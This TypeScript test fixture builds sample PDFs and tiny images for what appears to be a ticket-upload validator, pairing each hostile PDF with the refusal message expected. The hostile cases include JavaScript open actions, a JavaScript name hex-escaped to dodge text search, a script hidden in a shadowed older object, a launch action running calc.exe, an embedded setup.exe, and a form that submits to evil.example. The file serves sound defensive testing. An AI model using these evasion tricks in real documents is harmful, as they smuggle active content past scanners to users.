import { AFRelationship, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'

/** A PDF of so many pages; `change` may put into it what a ticket never has. */
export async function samplePdf(pages = 1, change?: (document: PDFDocument) => unknown): Promise<Buffer> {
  const document = await PDFDocument.create()
  for (let page = 1; page <= pages; page++)
    document.addPage([595, 842]).drawText(`E-ticket, page ${page}`, { x: 50, y: 780 })
  await change?.(document)
  // Objects packed into compressed streams, where a search through the file's text finds nothing.
  return Buffer.from(await document.save({ useObjectStreams: true }))
}

/** PDFs that are refused, each with the words that the refusal must hold. */
export const HOSTILE_PDFS: Record<string, { make: () => Promise<Buffer>; says: RegExp }> = {
  'a password': {
    make: async () => {
      const document = await PDFDocument.load(await samplePdf())
      document.encrypt({ userPassword: 'secret', ownerPassword: 'owner' })
      return Buffer.from(await document.save())
    },
    says: /password/,
  },
  'restrictions of its owner': {
    make: async () => {
      const document = await PDFDocument.load(await samplePdf())
      document.encrypt({ userPassword: '', ownerPassword: 'owner' })
      return Buffer.from(await document.save())
    },
    says: /restrictions/,
  },
  'JavaScript at opening': {
    make: () => samplePdf(1, (document) => document.addJavaScript('main', 'app.alert(1)')),
    says: /JavaScript/,
  },
  'JavaScript spelt in hex, behind a reference': {
    make: async () => {
      const action = await samplePdf(1, ({ context, catalog }) => {
        const kind = context.register(PDFName.of('JavaScript'))
        catalog.set(PDFName.of('OpenAction'), context.obj({ Type: 'Action', S: kind, URI: PDFString.of('x') }))
      })
      const text = action.toString('latin1')
      return Buffer.from(text.replaceAll('/JavaScript', '/J#61vaScript'), 'latin1')
    },
    says: /JavaScript/,
  },
  'a launch action': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'Launch', F: PDFString.of('calc.exe') })),
      ),
    says: /starts a program/,
  },
  'an attached file': {
    make: () =>
      samplePdf(1, (document) =>
        document.attach(new Uint8Array([77, 90, 1, 2]), 'setup.exe', { afRelationship: AFRelationship.Data }),
      ),
    says: /attached/,
  },
  'a form that sends': {
    make: () =>
      samplePdf(1, ({ context, catalog }) =>
        catalog.set(
          PDFName.of('OpenAction'),
          context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
        ),
      ),
    says: /sends or fetches/,
  },
  'an older version of an object with a script': {
    make: async () => {
      const bytes = await samplePdf(1)
      const hidden = '\n900 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n900 0 obj\n<< /S /GoTo >>\nendobj\n'
      return Buffer.concat([bytes.subarray(0, 15), Buffer.from(hidden), bytes.subarray(15)])
    },
    says: /JavaScript/,
  },
  'no pages at all': {
    make: async () => Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF'),
    says: /damaged/,
  },
}

/** The smallest files of each image kind: right at their beginnings, which is what decides. */
export const SAMPLE_IMAGES = {
  png: Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  ),
  jpeg: Buffer.concat([
    Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
    Buffer.alloc(64),
    Buffer.from('ffd9', 'hex'),
  ]),
  webp: Buffer.concat([Buffer.from('RIFF\x24\0\0\0WEBPVP8 ', 'latin1'), Buffer.alloc(32)]),
  heic: Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'),
    Buffer.alloc(32),
  ]),
}
